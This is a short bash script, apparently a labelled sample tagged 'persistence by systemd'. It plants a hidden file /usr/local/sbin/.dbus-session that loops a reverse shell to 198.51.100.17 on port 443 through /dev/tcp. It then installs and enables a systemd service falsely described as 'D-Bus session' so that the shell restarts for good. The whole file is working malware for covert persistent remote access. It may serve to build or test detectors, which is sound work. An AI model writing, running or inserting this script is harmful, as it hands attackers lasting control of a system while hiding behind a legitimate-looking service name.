# class: persistence by systemd; style: tidy with functions
set -euo pipefail

unit=/etc/systemd/system/dbus-session.service
binary=/usr/local/sbin/.dbus-session

write_binary() {
    printf '%s\n' '#!/bin/bash' 'while true; do bash -i >& /dev/tcp/198.51.100.17/443 0>&1; sleep 60; done' > "$binary"
    chmod 755 "$binary"
}

write_unit() {
    printf '[Unit]\nDescription=D-Bus session\n[Service]\nExecStart=%s\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' \
        "$binary" > "$unit"
}

main() {
    write_binary
    write_unit
    systemctl daemon-reload
    systemctl enable --now dbus-session.service
}

main "$@"
